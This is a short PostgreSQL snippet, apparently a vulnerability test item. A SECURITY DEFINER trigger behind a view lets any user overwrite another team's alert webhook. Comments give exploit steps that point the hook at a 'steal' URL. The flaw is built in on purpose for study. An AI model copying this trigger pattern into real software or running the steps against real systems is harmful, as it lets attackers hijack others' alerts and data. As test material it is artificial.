-- The view's trigger writes with its owner's rights to the team named in the new row; hooks of others can
-- be redirected.
-- about: channel_editor, save_channel, alert_channels, channel_editor_save
-- as: hf_heartbeat_app
-- exploit: SET request.jwt.claims = '{"sub":"usr_ann"}';
-- exploit: INSERT INTO channel_editor VALUES ('tm_road', 'ops', 'https://north.test/' || 'steal');
-- exploit: SET request.jwt.claims = '{"sub":"usr_bob"}';
-- exploit: SELECT webhook_url FROM alert_channels;
-- shows: https://north.test/steal
CREATE VIEW channel_editor WITH (security_invoker = true) AS
  SELECT team_id, name, webhook_url FROM alert_channels;
CREATE FUNCTION save_channel() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER
SET search_path = pg_catalog, pg_temp
AS $$
BEGIN
  INSERT INTO public.alert_channels VALUES (NEW.team_id, NEW.name, NEW.webhook_url)
  ON CONFLICT (team_id, name) DO UPDATE SET webhook_url = EXCLUDED.webhook_url;
  RETURN NEW;
END $$;
REVOKE EXECUTE ON FUNCTION save_channel() FROM PUBLIC;
CREATE TRIGGER channel_editor_save INSTEAD OF INSERT ON channel_editor
  FOR EACH ROW EXECUTE FUNCTION save_channel();
GRANT SELECT, INSERT ON channel_editor TO hf_heartbeat_app;
